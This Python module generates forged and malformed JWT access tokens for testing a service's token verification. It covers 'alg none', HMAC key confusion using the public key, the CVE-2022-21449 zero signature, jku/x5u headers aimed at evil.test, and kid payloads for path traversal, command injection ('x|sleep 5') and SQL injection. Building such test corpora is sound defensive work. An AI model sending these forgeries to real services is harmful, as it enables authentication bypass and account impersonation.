"""Access tokens that are none: everything that JWT libraries and services were ever fooled by, in one list.

`forgeries` needs no key of the service: it forges what anybody can who has a token of his own and the public keys, and
all of it can be sent in an Authorization header. `missigned` needs the key: right signatures under wrong claims.
`misspelt` has the spellings of a good token that no header carries.
"""

import base64
import hashlib
import hmac
import json
from collections.abc import Callable, Mapping, Sequence
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

Json = Mapping[str, Any]
Named = list[tuple[str, str]]
Sign = Callable[[bytes], bytes]
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
NOBODY = "0192f6c8-4b7e-7c3a-9a53-000000000000"
ABSENT = object()
OVERSIZE = 5000  # octets; more than ours have, less than a server takes for a header


def b64(octets: bytes) -> str:
    return base64.urlsafe_b64encode(octets).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(header: bytes | Json, claims: bytes | Json, sign: Sign) -> str:
    """Return the token; octets stand as they are."""
    parts = [b64(part if isinstance(part, bytes) else json.dumps(part).encode()) for part in (header, claims)]
    text = ".".join(parts)
    return f"{text}.{b64(sign(text.encode()))}"


def forgeries(good: str, keys: Sequence[Json]) -> Named:
    """Return tokens that nobody signed, made from somebody's `good` one and the JWK set's public `keys`."""
    mine = Ed25519PrivateKey.generate()
    header, claims = (json.loads(unb64(part)) for part in good.split(".")[:2])
    return [
        *_algorithms(header, claims, mine),
        *_confused(header, claims, keys),
        *_key_names(header, claims, mine),
        *_embedded(header, claims, mine),
        *_headers(header, claims, mine),
        *[(f"{name}, by another key", text) for name, text in missigned(header, claims, mine.sign)],
        *_tampered(good, header, claims),
        *_shapes(good, header, claims),
    ]


def missigned(header: Json, claims: Json, sign: Sign) -> Named:
    """Return tokens with wrong claims or headers, signed by `sign`: by the service's own key, if it is there."""
    changes: dict[str, dict[str, object]] = {
        "iss of another": {"iss": "https://evil.test"},
        "iss with a slash more": {"iss": f"{claims['iss']}/"},
        "iss as a list": {"iss": [claims["iss"]]},
        "iss absent": {"iss": ABSENT},
        "iss null": {"iss": None},
        "aud of another": {"aud": "another"},
        "aud as a list": {"aud": [claims["aud"]]},
        "aud as a list of two": {"aud": [claims["aud"], "another"]},
        "aud absent": {"aud": ABSENT},
        "aud empty": {"aud": ""},
        "exp as text": {"exp": str(claims["exp"])},
        "exp as a float": {"exp": claims["exp"] + 0.5},
        "exp as a whole float": {"exp": float(claims["exp"])},
        "exp huge": {"exp": 10**30},
        "exp just beyond time": {"exp": 253_402_300_800},
        "exp negative": {"exp": -1},
        "exp true": {"exp": True},
        "exp null": {"exp": None},
        "exp absent": {"exp": ABSENT},
        "exp as a list": {"exp": [claims["exp"]]},
        "exp before iat": {"exp": claims["iat"] - 1},
        "iat true": {"iat": True},
        "iat as text": {"iat": str(claims["iat"])},
        "iat as a float": {"iat": float(claims["iat"])},
        "iat absent": {"iat": ABSENT},
        "iat negative": {"iat": -1},
        "sub of another": {"sub": NOBODY},
        "sub absent": {"sub": ABSENT},
        "sub null": {"sub": None},
        "sub no uuid": {"sub": "admin"},
        "sub in capitals": {"sub": claims["sub"].upper(), "user_id": claims["sub"].upper()},
        "sub in braces": {"sub": "{" + claims["sub"] + "}", "user_id": "{" + claims["sub"] + "}"},
        "sub as a URN": {"sub": f"urn:uuid:{claims['sub']}", "user_id": f"urn:uuid:{claims['sub']}"},
        "sub without dashes": {"sub": claims["sub"].replace("-", ""), "user_id": claims["sub"].replace("-", "")},
        "sub as a list": {"sub": [claims["sub"]]},
        "sub a number": {"sub": 1, "user_id": 1},
        "sub with SQL": {"sub": "' OR 1=1 --", "user_id": "' OR 1=1 --"},
        "user_id of another": {"user_id": NOBODY},
        "user_id absent": {"user_id": ABSENT},
        "sid absent": {"sid": ABSENT},
        "sid no uuid": {"sid": "1"},
        "sid with a NUL": {"sid": claims["sid"][:-1] + "\0"},
        "sid with a line feed": {"sid": claims["sid"] + "\n"},
        "sid with other digits": {"sid": claims["sid"][:-1] + "٣"},
        "sid as a list": {"sid": [claims["sid"]]},
    }
    texts: dict[str, bytes] = {
        "claims empty": b"{}",
        "claims a list": json.dumps([claims]).encode(),
        "claims a text": json.dumps(json.dumps(claims)).encode(),
        "claims null": b"null",
        "claims nothing": b"",
        "claims no JSON": b"sub=1",
        "claims cut": json.dumps(claims).encode()[:-1],
        "claims no UTF-8": json.dumps(claims).encode() + b"\xff",
        "claims UTF-16": json.dumps(claims).encode("utf-16"),
        "claims with a BOM": b"\xef\xbb\xbf" + json.dumps(claims).encode(),
        "claims twice": json.dumps(claims).encode() * 2,
        "claims with exp NaN": json.dumps({**claims, "exp": float("nan")}).encode(),
        "claims with email NaN": json.dumps({**claims, "email": float("nan")}).encode(),
        "claims with exp Infinity": json.dumps({**claims, "exp": float("inf")}).encode(),
        "claims with exp 1e400": json.dumps(claims).replace(str(claims["exp"]), "1e400").encode(),
        "claims with sub twice": json.dumps(claims).replace("{", f'{{"sub":"{NOBODY}",', 1).encode(),
        "claims nested deeply": b"[" * 2900,
        "claims with long digits": b'{"exp":' + b"9" * 2900 + b"}",
    }
    return [
        *((f"claim {name}", compact(header, _changed(claims, change), sign)) for name, change in changes.items()),
        *((name, compact(header, text, sign)) for name, text in texts.items()),
        *((f"header {name}", compact(_changed(header, change), claims, sign)) for name, change in _HEADERS.items()),
    ]


_HEADERS: dict[str, dict[str, object]] = {
    "typ JWT": {"typ": "JWT"},
    "typ absent": {"typ": ABSENT},
    "typ null": {"typ": None},
    "typ in capitals": {"typ": "AT+JWT"},
    "typ id_token": {"typ": "id+jwt"},
    "typ as a list": {"typ": ["at+jwt"]},
    "crit": {"crit": ["exp"]},
    "crit empty": {"crit": []},
    "crit unknown": {"crit": ["x-mine"], "x-mine": 1},
    "b64 false": {"b64": False, "crit": ["b64"]},
    "b64 false without crit": {"b64": False},
    "zip": {"zip": "DEF"},
    "cty JWT": {"cty": "JWT"},
    "jku": {"jku": "https://evil.test/jwks.json"},
    "x5u": {"x5u": "https://evil.test/key.pem"},
    "x5t": {"x5t": "AAAA"},
    "alg none": {"alg": "none"},
    "alg absent": {"alg": ABSENT},
    "alg null": {"alg": None},
    "alg as a list": {"alg": ["EdDSA"]},
    "alg of another name": {"alg": "Ed25519"},
    "alg in small letters": {"alg": "eddsa"},
    "kid absent": {"kid": ABSENT},
    "kid null": {"kid": None},
    "kid as a list": {"kid": ["1"]},
    "kid a number": {"kid": 1},
    "kid an object": {"kid": {"$ne": ""}},
    "a member more": {"x": 1},
}


def misspelt(good: str) -> Named:
    """Return spellings of a good token that decode to the same octets, and are not it."""
    header, claims, signature = good.split(".")
    spellings = {"": "nothing", "\n": "a line feed", "\r\n": "CRLF", " ": "a blank", "\t": "a tab", "\0": "a NUL"}
    found = [
        (f"{name} {where}", text)
        for blank, name in spellings.items()
        if blank
        for where, text in (
            ("before", blank + good),
            ("after", good + blank),
            ("in the signature", f"{header}.{claims}.{signature[:9]}{blank}{signature[9:]}"),
            ("in the header", f"{header[:9]}{blank}{header[9:]}.{claims}.{signature}"),
            ("between", f"{header}.{blank}{claims}.{signature}"),
        )
    ]
    return [*found, ("nothing", ""), ("a lone surrogate", good + "\ud800"), ("other digits", good + "٣")]


def _changed(of: Json, change: Json) -> dict[str, Any]:
    return {name: value for name, value in {**of, **change}.items() if value is not ABSENT}


def _always(signature: bytes) -> Sign:
    return lambda _: signature


def _hmac(key: bytes) -> Sign:
    return lambda text: hmac.digest(key, text, "sha256")


def _algorithms(header: Json, claims: Json, mine: Ed25519PrivateKey) -> Named:
    found = []
    for name in ("none", "None", "NONE", "nOnE", "", " none"):
        unsigned = {**header, "alg": name}
        found += [(f"alg {name!r}, no signature", compact(unsigned, claims, _always(b"")))]
        found += [(f"alg {name!r}, some signature", compact(unsigned, claims, _always(bytes(64))))]
    curve, big = ec.generate_private_key(ec.SECP256R1()), rsa.generate_private_key(65537, 2048)
    signers: dict[str, Sign] = {
        "ES256": lambda text: curve.sign(text, ec.ECDSA(SHA256())),
        "ES512": _always(bytes(132)),  # an ECDSA signature of zeros: CVE-2022-21449
        "RS256": lambda text: big.sign(text, padding.PKCS1v15(), SHA256()),
        "PS256": lambda text: big.sign(text, padding.PSS(padding.MGF1(SHA256()), 32), SHA256()),
        "Ed25519": mine.sign,
        "EdDSA": mine.sign,
    }
    found += [
        (f"alg {name} by another key", compact({**header, "alg": name}, claims, by)) for name, by in signers.items()
    ]
    zeros = {"zeros": bytes(64), "ones": b"\xff" * 64, "the neutral point": b"\x01" + bytes(63)}
    return found + [(f"a signature of {name}", compact(header, claims, _always(s))) for name, s in zeros.items()]


def _confused(header: Json, claims: Json, keys: Sequence[Json]) -> Named:
    """HMAC under what everybody knows."""
    known: dict[str, bytes] = {
        "nothing": b"",
        "a NUL": b"\0",
        "secret": b"secret",
        "the kid": str(header["kid"]).encode(),
    }
    for n, key in enumerate(keys):
        raw = unb64(str(key["x"]))
        public = Ed25519PublicKey.from_public_bytes(raw)
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        known |= {
            f"key {n}'s octets": raw,
            f"key {n} as base64url": str(key["x"]).encode(),
            f"key {n} as hex": raw.hex().encode(),
            f"key {n} as PEM": pem,
            f"key {n} as PEM without its end": pem.rstrip(),
            f"key {n} as DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
            f"key {n} as OpenSSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
            f"key {n} as JWK": json.dumps(key).encode(),
        }
    shared = {**header, "alg": "HS256"}
    return [(f"HS256 under {name}", compact(shared, claims, _hmac(by))) for name, by in known.items()] + [
        ("EdDSA in name, HMAC in fact", compact(header, claims, lambda text: hmac.digest(b"", text, "sha512")))
    ]


def _key_names(header: Json, claims: Json, mine: Ed25519PrivateKey) -> Named:
    names: dict[str, object] = {
        "unknown": "0123456789abcdef",
        "empty": "",
        "a path": "../../../../dev/null",
        "a path with a NUL": "/dev/null\0",
        "a command": "x|sleep 5",
        "SQL": "x' UNION SELECT 'key' --",
        "a web address": "https://evil.test/key",
        "as a list": [header["kid"]],
        "as an object": {"kid": header["kid"]},
        "a number": 0,
        "true": True,
        "null": None,
        "absent": ABSENT,
        "in capitals": str(header["kid"]).upper() + "X",
        "with a blank": f"{header['kid']} ",
        "long": "k" * 2000,
        "a lone surrogate": "\ud800",
    }
    signed = [(f"kid {name}", _changed(header, {"kid": kid})) for name, kid in names.items()]
    return [(name, compact(changed, claims, mine.sign)) for name, changed in signed] + [
        ("kid empty, HMAC of nothing", compact({**header, "kid": "", "alg": "HS256"}, claims, _hmac(b""))),
        (
            "kid of nothing, HMAC of nothing",
            compact({**header, "kid": "/dev/null", "alg": "HS256"}, claims, _hmac(b"")),
        ),
    ]


def _embedded(header: Json, claims: Json, mine: Ed25519PrivateKey) -> Named:
    """The key that verifies comes along."""
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": b64(mine.public_key().public_bytes_raw())}
    named = {**jwk, "kid": header["kid"], "use": "sig", "alg": "EdDSA"}
    der = mine.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    parts: dict[str, dict[str, object]] = {
        "jwk": {"jwk": jwk},
        "jwk with the kid": {"jwk": named},
        "jwk without a kid": {"jwk": jwk, "kid": ABSENT},
        "jwk, shared": {"jwk": {"kty": "oct", "k": ""}, "alg": "HS256"},
        "jku": {"jku": "https://evil.test/jwks.json"},
        "jku on this host": {"jku": "/.well-known/jwks.json"},
        "jku as data": {"jku": "data:application/json," + json.dumps({"keys": [named]})},
        "x5u": {"x5u": "https://evil.test/cert.pem"},
        "x5c": {"x5c": [base64.b64encode(der).decode()]},
        "x5t": {"x5t": b64(hashlib.sha1(der, usedforsecurity=False).digest())},
        "epk": {"epk": jwk},
        "everything": {"jwk": named, "jku": "https://evil.test/", "x5c": [base64.b64encode(der).decode()]},
    }
    return [(f"{name} comes along", compact(_changed(header, part), claims, mine.sign)) for name, part in parts.items()]


def _headers(header: Json, claims: Json, mine: Ed25519PrivateKey) -> Named:
    plain = json.dumps(header)
    texts = {
        "no JSON": b"EdDSA",
        "a list": b'["EdDSA"]',
        "a text": json.dumps(plain).encode(),
        "null": b"null",
        "empty": b"{}",
        "nothing": b"",
        "cut": plain.encode()[:-1],
        "UTF-16": plain.encode("utf-16"),
        "no UTF-8": plain.encode() + b"\xff",
        "with alg twice": plain.replace("{", '{"alg":"none",', 1).encode(),
        "with alg twice, the other way": plain.replace("}", ',"alg":"none"}', 1).encode(),
        "with kid twice": plain.replace("{", '{"kid":"x",', 1).encode(),
        "nested deeply": b'{"alg":' * 400 + b"1" + b"}" * 400,
        "with NaN": plain.replace("}", ',"x":NaN}', 1).encode(),
    }
    return [(f"header {name}", compact(text, claims, mine.sign)) for name, text in texts.items()]


def _tampered(good: str, header: Json, claims: Json) -> Named:
    """What a right signature stands under, changed."""
    first, second, signature = good.split(".")
    changed: dict[str, dict[str, object]] = {
        "another's id": {"sub": NOBODY, "user_id": NOBODY},
        "a session of nobody": {"sid": NOBODY},
        "a longer life": {"exp": claims["exp"] + 3600},
        "a role": {"role": "admin"},
    }
    found = [
        (f"the same signature, {name}", f"{first}.{b64(json.dumps({**claims, **change}).encode())}.{signature}")
        for name, change in changed.items()
    ]
    found += [
        ("the same signature, alg none", f"{b64(json.dumps({**header, 'alg': 'none'}).encode())}.{second}.{signature}"),
        ("the same octets, spaced", f"{first}.{b64(json.dumps(claims, indent=1).encode())}.{signature}"),
        ("the same header, spaced", f"{b64(json.dumps(header, indent=1).encode())}.{second}.{signature}"),
    ]
    last = ALPHABET.index(signature[-1])
    found += [
        (f"the same signature, with {bit} for nothing", f"{first}.{second}.{signature[:-1]}{ALPHABET[last ^ bit]}")
        for bit in (1, 2)
    ]
    octets = unb64(signature)
    if len(octets) == 64:  # Ed25519: S plus the order of the group is as good to a verifier that does not look
        s = int.from_bytes(octets[32:], "little") + 2**252 + 27742317777372353535851937790883648493
        found += [("S beyond the order", f"{first}.{second}.{b64(octets[:32] + s.to_bytes(32, 'little'))}")]
    flips = [
        (f"a bit of the signature, {n}", octets[:n] + bytes([octets[n] ^ 1]) + octets[n + 1 :]) for n in (0, 15, 31)
    ]
    return found + [(name, f"{first}.{second}.{b64(flipped)}") for name, flipped in flips]


def _shapes(good: str, header: Json, claims: Json) -> Named:
    first, second, signature = good.split(".")
    standard = good.replace("-", "+").replace("_", "/")
    shapes = {
        "no signature": f"{first}.{second}.",
        "no signature, no dot": f"{first}.{second}",
        "only a header": first,
        "only dots": "..",
        "a dot": ".",
        "a signature cut by one": good[:-1],
        "a signature cut by half": good[:-43],
        "a signature longer": good + "A",
        "no claims": f"{first}..{signature}",
        "no header": f".{second}.{signature}",
        "parts exchanged": f"{second}.{first}.{signature}",
        "a part more": f"{good}.{signature}",
        "a part more before": f"{first}.{good}",
        "an empty part more": f"{good}.",
        "JWE": f"{first}.{second}.{second}.{second}.{signature}",
        "JWS as JSON": json.dumps({"protected": first, "payload": second, "signature": signature}),
        "JWS as JSON, general": json.dumps({"payload": second, "signatures": [{"protected": first}]}),
        "padding": f"{good}=",
        "padding, twice": f"{good}==",
        "padding everywhere": ".".join(f"{part}==" for part in good.split(".")),
        "a comma": good.replace(".", ","),
        "percent signs": good.replace(".", "%2E"),
        "quotes": f'"{good}"',
        "the word Bearer": f"Bearer.{good}",
        "two tokens": f"{good}{good}",
        "the wrong alphabet": standard if standard != good else good.replace(".", "+."),
        "an exclamation mark": f"{first}.{second}.{signature[:5]}!{signature[5:]}",
        "oversize claims": compact(header, {**claims, "x": "x" * OVERSIZE}, _always(bytes(64))),
        "oversize": "A" * OVERSIZE,
        "oversize, dotted": "." * OVERSIZE,
        "a number": "0",
        "a word": "null",
        "a refresh token": b64(bytes(range(32))),
    }
    return list(shapes.items())
